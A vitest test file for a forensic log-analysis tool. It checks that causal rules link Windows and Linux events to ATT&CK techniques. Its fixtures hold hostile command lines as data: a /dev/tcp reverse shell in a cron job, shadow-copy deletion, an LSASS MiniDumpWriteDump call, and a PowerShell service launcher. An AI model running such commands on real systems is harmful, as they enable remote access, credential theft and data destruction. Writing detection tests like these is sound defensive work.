import { describe, expect, it } from 'vitest';
import type { CausalEdge } from '../../core/contracts/forensic.js';
import type { ForensicEvent } from '../event.js';
import { analyzeEvents } from './analyze.js';
import { CAUSAL_RULES } from './rules.js';
import { at, logon4624, makeEvent, security4688, sysmon1, sysmonEvent } from './events.fixture.js';

const edgesOf = (events: ForensicEvent[], rule: string): CausalEdge[] => analyzeEvents(events, { includeNoisy: true }).edges.filter((e) => e.rule === rule);
const explorer = { image: 'C:\\Windows\\explorer.exe', pid: 100 };
const cmd = { image: 'C:\\Windows\\System32\\cmd.exe', pid: 200 };
const lsass = { type: 'process' as const, name: 'C:\\Windows\\System32\\lsass.exe' };

describe('causal rules', () => {
  it('every rule has a unique name, a relation and a description', () => {
    const names = CAUSAL_RULES.map((r) => r.name);
    expect(new Set(names).size).toBe(names.length);
    for (const r of CAUSAL_RULES) expect(r.description.length).toBeGreaterThan(20);
  });

  it('a rule that names its actions is called only for events of those actions, in time order; one that names none sees every event', () => {
    const seen: string[] = [];
    const all: string[] = [];
    const named = { name: 'test-named', relation: 'x', description: 'a test rule that reads file creations only', stage: null, actions: ['file.create'], create: () => ({ onEvent: (e: { action: string }) => void seen.push(e.action) }) };
    const every = { name: 'test-every', relation: 'x', description: 'a test rule that reads every event it is given', stage: null, create: () => ({ onEvent: (e: { action: string }) => void all.push(e.action) }) };
    const events = [
      makeEvent({ time: at(0), action: 'process.create', object: { type: 'process', name: 'C:\\a.exe' } }),
      makeEvent({ time: at(1), action: 'file.create', object: { type: 'file', name: 'C:\\x.txt' } }),
      makeEvent({ time: at(2), action: 'network.connect', object: { type: 'network', name: '10.0.0.1:445' } }),
      makeEvent({ time: at(3), action: 'file.create', object: { type: 'file', name: 'C:\\y.txt' } }),
    ];
    analyzeEvents(events, { includeNoisy: true, sigma: null, rules: [named, every] });
    expect(seen).toEqual(['file.create', 'file.create']);
    expect(all).toEqual(['process.create', 'file.create', 'network.connect', 'file.create']);
  });

  it('the built-in rules that name their actions draw the same edges as when called for every event', () => {
    const events = [
      sysmon1(0, explorer, cmd, 'cmd.exe /c whoami'),
      security4688(1, explorer, cmd, 'cmd.exe /c net user'),
      logon4624(2, 'alice', 3, '10.0.0.5', '0xabc'),
      makeEvent({ time: at(3), action: 'file.create', actor: { type: 'process', name: cmd.image }, object: { type: 'file', name: 'C:\\Users\\Public\\out.zip' }, attributes: { pid: 200 } }),
      makeEvent({ time: at(4), action: 'registry.set', actor: { type: 'process', name: cmd.image }, object: { type: 'registry', name: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x' } }),
      makeEvent({ time: at(5), action: 'network.connect', actor: { type: 'process', name: cmd.image }, object: { type: 'network', name: '10.0.0.9:445' }, attributes: { pid: 200 } }),
    ];
    let drew = 0;
    for (const rule of CAUSAL_RULES) {
      if (rule.actions === undefined) continue;
      const { actions: _actions, ...everyEvent } = rule;
      const named = analyzeEvents(events, { includeNoisy: true, sigma: null, rules: [rule] }).edges.slice();
      const all = analyzeEvents(events, { includeNoisy: true, sigma: null, rules: [everyEvent] }).edges.slice();
      expect(named).toEqual(all);
      if (named.length > 0) drew++;
    }
    // The events are ones several of these rules draw from: the comparison is not over empty graphs only.
    expect(drew).toBeGreaterThanOrEqual(3);
  });

  it('process-spawn links parent to child and tags the command line', () => {
    const e = sysmon1(0, explorer, cmd, 'cmd.exe /c vssadmin delete shadows /all /quiet');
    const [edge] = edgesOf([e], 'process-spawn');
    expect(edge?.from).toContain('explorer.exe');
    expect(edge?.to).toContain('cmd.exe');
    expect(edge?.techniques).toContain('T1490');
    expect(edge?.eventIds).toEqual([e.eventId]);
    expect(edge?.stage).toBe('impact');
  });

  it('remote-execution: a child of WmiPrvSE is WMI, linked from the network logon it ran in', () => {
    const logon = logon4624(0, 'CORP\\admin', 3, '10.0.0.9', '0xbeef');
    const spawn = security4688(1, { image: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', pid: 300 }, { image: 'C:\\Windows\\System32\\calc.exe', pid: 400 }, '', '0xbeef');
    const edges = edgesOf([logon, spawn], 'remote-execution');
    expect(edges.length).toBeGreaterThan(0);
    expect(edges.every((e) => e.techniques.includes('T1047'))).toBe(true);
    expect(edges.some((e) => e.from.startsWith('session:'))).toBe(true);
    expect(edgesOf([logon, spawn], 'process-spawn')).toHaveLength(0);
  });

  it('remote-execution: a PsExec named pipe', () => {
    const e = sysmonEvent(0, 18, 'windows.event', { image: 'C:\\Windows\\PSEXESVC.exe', pid: 500 }, { type: 'log', name: 'Sysmon' }, { PipeName: '\\PSEXESVC-WS02-1-stdin' });
    expect(edgesOf([e], 'remote-execution')[0]?.techniques).toContain('T1021.002');
  });

  it('remote-logon links an SMB connection to the logon it caused on the other host', () => {
    const conn = sysmonEvent(0, 3, 'network.connect', { image: 'C:\\Tools\\PsExec.exe', pid: 600 }, { type: 'network', name: '10.0.0.20:445' }, {}, { sourceIp: '10.0.0.10' }, 'WS01');
    const logon = logon4624(3, 'CORP\\admin', 3, '10.0.0.10', '0x77', 'SRV02');
    const [edge] = edgesOf([conn, logon], 'remote-logon');
    expect(edge?.from).toContain('psexec.exe');
    expect(edge?.to).toBe('session:srv02:0x77');
    expect(edge?.techniques).toEqual(['T1021.002']);
    // Too late: no link.
    expect(edgesOf([conn, logon4624(600, 'CORP\\admin', 3, '10.0.0.10', '0x78', 'SRV02')], 'remote-logon')).toHaveLength(0);
  });

  it('logon-then-activity: 4624 logon id to the processes of that session', () => {
    const logon = logon4624(0, 'CORP\\jdoe', 10, '10.0.0.5', '0x1234');
    const spawn = security4688(5, explorer, cmd, 'cmd.exe', '0x1234');
    const edges = edgesOf([logon, spawn], 'logon-then-activity');
    expect(edges.some((e) => e.from === 'endpoint:10.0.0.5' && e.to === 'session:ws01:0x1234' && e.techniques.includes('T1021.001'))).toBe(true);
    expect(edges.some((e) => e.from === 'session:ws01:0x1234' && e.to.includes('cmd.exe'))).toBe(true);
  });

  it('logon-then-activity: a Linux session to the sudo commands of its user', () => {
    const ok = makeEvent({ time: at(0), host: 'web', kind: 'authlog', action: 'auth.login.success', actor: { type: 'user', name: 'deploy' }, attributes: { service: 'sshd', sourceIp: '203.0.113.5' } });
    const sudo = makeEvent({ time: at(30), host: 'web', kind: 'authlog', action: 'sudo.command', actor: { type: 'user', name: 'deploy' }, object: { type: 'process', name: '/usr/bin/id' }, attributes: { commandLine: '/usr/bin/id', runAs: 'root' } });
    const edges = edgesOf([ok, sudo], 'logon-then-activity');
    expect(edges.some((e) => e.from.startsWith('session:web:deploy') && e.to.startsWith('process:web:sudo:'))).toBe(true);
  });

  it('brute-force: guessing then success, and spraying without one', () => {
    const fails = Array.from({ length: 6 }, (_, i) => makeEvent({ time: at(i), host: 'web', kind: 'authlog', action: 'auth.login.failure', actor: { type: 'user', name: 'root' }, attributes: { sourceIp: '198.51.100.7', service: 'sshd' } }));
    const ok = makeEvent({ time: at(10), host: 'web', kind: 'authlog', action: 'auth.login.success', actor: { type: 'user', name: 'root' }, attributes: { sourceIp: '198.51.100.7', service: 'sshd' } });
    const [edge] = edgesOf([...fails, ok], 'brute-force');
    expect(edge?.techniques).toEqual(expect.arrayContaining(['T1110.001', 'T1078', 'T1021.004']));
    expect(edge?.eventIds).toHaveLength(7);
    // Four failures are not enough.
    expect(edgesOf([...fails.slice(0, 4), ok], 'brute-force')).toHaveLength(0);
    const spray = ['a', 'b', 'c', 'd'].map((u, i) => makeEvent({ time: at(i), host: 'dc', action: 'kerberos.preauth_failure', actor: { type: 'user', name: u }, attributes: { sourceIp: '10.1.1.1' } }));
    const sprayed = edgesOf(spray, 'brute-force');
    expect(sprayed).toHaveLength(1);
    expect(sprayed[0]?.techniques).toEqual(['T1110.003']);
  });

  it('file-write-then-execute: a downloaded file that then runs', () => {
    const ps = { image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', pid: 700 };
    const write = sysmonEvent(0, 11, 'file.create', ps, { type: 'file', name: 'C:\\Users\\Public\\x.exe' });
    const run = sysmon1(5, ps, { image: 'C:\\Users\\Public\\x.exe', pid: 800 }, 'C:\\Users\\Public\\x.exe');
    const edges = edgesOf([write, run], 'file-write-then-execute');
    expect(edges.map((e) => e.relation).sort()).toEqual(['executed', 'wrote']);
    expect(edges.every((e) => e.techniques.includes('T1105'))).toBe(true);
  });

  it('service-creation: a shell as service image is service execution', () => {
    const e = makeEvent({ action: 'service.install', actor: { type: 'user', name: 'LocalSystem' }, object: { type: 'service', name: 'evil' }, attributes: { eventId: 7045, imagePath: '%COMSPEC% /c whoami' } });
    expect(edgesOf([e], 'service-creation')[0]?.techniques).toEqual(expect.arrayContaining(['T1543.003', 'T1569.002']));
    const benign = makeEvent({ action: 'service.install', actor: null, object: { type: 'service', name: 'Updater' }, attributes: { eventId: 7045, imagePath: '"C:\\Program Files\\Vendor\\upd.exe"' } });
    expect(edgesOf([benign], 'service-creation')[0]?.techniques).toEqual(['T1543.003']);
  });

  it('task-creation: 4698', () => {
    const e = makeEvent({ action: 'task.create', actor: { type: 'user', name: 'CORP\\a' }, object: { type: 'task', name: '\\Updater' }, attributes: { eventId: 4698 } });
    expect(edgesOf([e], 'task-creation')[0]?.techniques).toEqual(['T1053.005']);
  });

  it('registry-persistence: Run key and service ImagePath', () => {
    const p = { image: 'C:\\Users\\Public\\x.exe', pid: 900 };
    const run = sysmonEvent(0, 13, 'registry.set', p, { type: 'registry', name: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x' });
    const svc = sysmonEvent(1, 13, 'registry.set', { image: 'C:\\Windows\\system32\\services.exe', pid: 460 }, { type: 'registry', name: 'HKLM\\System\\CurrentControlSet\\services\\hello\\ImagePath' }, {}, { details: '%COMSPEC% /b /c start powershell -nop' });
    const edges = edgesOf([run, svc], 'registry-persistence');
    expect(edges[0]?.techniques).toEqual(['T1547.001']);
    expect(edges[1]?.techniques).toEqual(expect.arrayContaining(['T1543.003', 'T1569.002']));
  });

  it('credential-access: LSASS read, but not a query-only handle; dumping script blocks', () => {
    const mimi = { image: 'C:\\Temp\\m.exe', pid: 1000 };
    const read = sysmonEvent(0, 10, 'process.access', mimi, lsass, {}, { grantedAccess: '0x1010' });
    const query = sysmonEvent(0, 10, 'process.access', { image: 'C:\\av.exe', pid: 1001 }, lsass, {}, { grantedAccess: '0x1000' });
    const edges = edgesOf([read, query], 'credential-access');
    expect(edges).toHaveLength(1);
    expect(edges[0]?.techniques).toEqual(['T1003.001']);
    const script = makeEvent({ action: 'script.block', actor: { type: 'process', name: 'powershell' }, object: { type: 'file', name: 'scriptblock' }, attributes: { eventId: 4104, script: '[Win32]::MiniDumpWriteDump($h, $id, $fs, 2)' } });
    expect(edgesOf([script], 'credential-access')[0]?.to).toContain('lsass.exe');
  });

  it('network-connection: admin ports inside are lateral movement, a LOLBin outside is C2', () => {
    const psexec = sysmonEvent(0, 3, 'network.connect', { image: 'C:\\PsExec.exe', pid: 1100 }, { type: 'network', name: '10.0.0.20:445' });
    const rundll = sysmonEvent(0, 3, 'network.connect', { image: 'C:\\Windows\\System32\\rundll32.exe', pid: 1101 }, { type: 'network', name: '93.184.216.34:443' });
    const chrome = sysmonEvent(0, 3, 'network.connect', { image: 'C:\\chrome.exe', pid: 1102 }, { type: 'network', name: '93.184.216.34:443' });
    const [a, b, c] = edgesOf([psexec, rundll, chrome], 'network-connection');
    expect(a?.techniques).toEqual(['T1021.002']);
    expect(b?.techniques).toEqual(['T1071']);
    expect(c?.techniques).toEqual([]);
  });

  it('privilege-use: sudo with the command\'s own techniques', () => {
    const e = makeEvent({ host: 'web', kind: 'authlog', action: 'sudo.command', actor: { type: 'user', name: 'bob' }, object: { type: 'process', name: 'x' }, attributes: { commandLine: '/usr/sbin/useradd -m eve', runAs: 'root' } });
    expect(edgesOf([e], 'privilege-use')[0]?.techniques).toEqual(['T1548.003', 'T1136.001']);
  });

  it('account-change: a new account linked from the sudo command that made it', () => {
    const sudo = makeEvent({ time: at(0), host: 'web', kind: 'authlog', action: 'sudo.command', actor: { type: 'user', name: 'bob' }, object: { type: 'process', name: 'x' }, attributes: { commandLine: '/usr/sbin/useradd -m eve' } });
    const made = makeEvent({ time: at(1), host: 'web', kind: 'authlog', action: 'account.create', object: { type: 'user', name: 'eve' } });
    const [edge] = edgesOf([sudo, made], 'account-change');
    expect(edge?.from).toContain(':sudo:');
    expect(edge?.to).toBe('user:eve');
    expect(edge?.techniques).toEqual(['T1136.001']);
    const group = makeEvent({ action: 'account.group.add', actor: { type: 'user', name: 'CORP\\x' }, object: { type: 'user', name: 'CORP\\y' }, attributes: { group: 'Administrators' } });
    expect(edgesOf([group], 'account-change')[0]?.techniques).toEqual(['T1098', 'T1078']);
  });

  it('log-clear and defense-evasion', () => {
    const clear = makeEvent({ action: 'log.clear', actor: { type: 'user', name: 'CORP\\x' }, object: { type: 'log', name: 'Security' }, attributes: { eventId: 1102, provider: 'Microsoft-Windows-Eventlog' } });
    expect(edgesOf([clear], 'log-clear')[0]?.techniques).toEqual(['T1685.005']);
    const policy = makeEvent({ action: 'windows.event', actor: { type: 'user', name: 'CORP\\x' }, object: { type: 'log', name: 'Security' }, attributes: { eventId: 4719, provider: 'Microsoft-Windows-Security-Auditing' } });
    const clock = makeEvent({ action: 'windows.event', actor: { type: 'user', name: 'CORP\\x' }, attributes: { eventId: 4616, provider: 'Microsoft-Windows-Security-Auditing', data: { ProcessName: 'C:\\Windows\\System32\\cmd.exe' } } });
    const ntp = makeEvent({ action: 'windows.event', actor: { type: 'user', name: 'LOCAL SERVICE' }, attributes: { eventId: 4616, provider: 'Microsoft-Windows-Security-Auditing', data: { ProcessName: 'C:\\Windows\\System32\\svchost.exe' } } });
    const stomp = sysmonEvent(0, 2, 'windows.event', { image: 'C:\\t.exe', pid: 1200 }, { type: 'file', name: 'C:\\t.exe' });
    expect(edgesOf([policy, clock, ntp, stomp], 'defense-evasion').map((e) => e.relation)).toEqual(['changed-audit-policy', 'set-clock', 'timestomped']);
  });

  it('scheduled-execution: a reverse-shell cron job linked from the crontab change', () => {
    const install = makeEvent({ time: at(0), host: 'web', kind: 'authlog', action: 'sudo.command', actor: { type: 'user', name: 'bob' }, object: { type: 'process', name: 'x' }, attributes: { commandLine: '/usr/bin/crontab -u root /tmp/.c' } });
    const job = makeEvent({ time: at(60), host: 'web', kind: 'authlog', action: 'cron.command', actor: { type: 'user', name: 'root' }, object: { type: 'process', name: 'x' }, attributes: { commandLine: 'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1' } });
    const benign = makeEvent({ time: at(61), host: 'web', kind: 'authlog', action: 'cron.command', actor: { type: 'user', name: 'root' }, object: { type: 'process', name: 'x' }, attributes: { commandLine: 'cd / && run-parts --report /etc/cron.hourly' } });
    const edges = edgesOf([install, job, benign], 'scheduled-execution');
    expect(edges).toHaveLength(1);
    expect(edges[0]?.from).toContain(':sudo:');
    expect(edges[0]?.techniques).toEqual(expect.arrayContaining(['T1053.003', 'T1059.004']));
  });

  it('file-impact: ransom extensions, and a burst of writes', () => {
    const p = { image: 'C:\\x.exe', pid: 1300 };
    const named = sysmonEvent(0, 11, 'file.rename', p, { type: 'file', name: 'C:\\d\\a.xlsx.locked' });
    expect(edgesOf([named], 'file-impact')[0]?.techniques).toEqual(['T1486']);
    const burst = Array.from({ length: 30 }, (_, i) => sysmonEvent(i, 11, 'file.modify', { image: 'C:\\y.exe', pid: 1301 }, { type: 'file', name: `C:\\d\\f${i}.docx` }));
    expect(edgesOf(burst, 'file-impact')).toHaveLength(30);
    expect(edgesOf(burst.slice(0, 10), 'file-impact')).toHaveLength(0);
  });

  it('data-staging: archives and documents in staging folders', () => {
    const p = { image: 'C:\\7z.exe', pid: 1400 };
    const zip = sysmonEvent(0, 11, 'file.create', p, { type: 'file', name: 'C:\\Users\\Public\\a.7z' });
    const doc = sysmonEvent(1, 11, 'file.create', p, { type: 'file', name: 'C:\\Users\\Public\\p\\pay.xlsx' });
    const home = sysmonEvent(2, 11, 'file.create', p, { type: 'file', name: 'C:\\Users\\bob\\Documents\\a.7z' });
    const edges = edgesOf([zip, doc, home], 'data-staging');
    expect(edges.map((e) => e.techniques)).toEqual([['T1074.001', 'T1560.001'], ['T1074.001']]);
  });

  it('edges carry the rule\'s calibrated confidence', () => {
    const e = sysmon1(0, explorer, cmd, 'cmd.exe');
    const [edge] = edgesOf([e], 'process-spawn');
    expect(edge?.confidence).toBeGreaterThan(0);
    expect(edge?.confidence).toBeLessThan(1);
  });
});
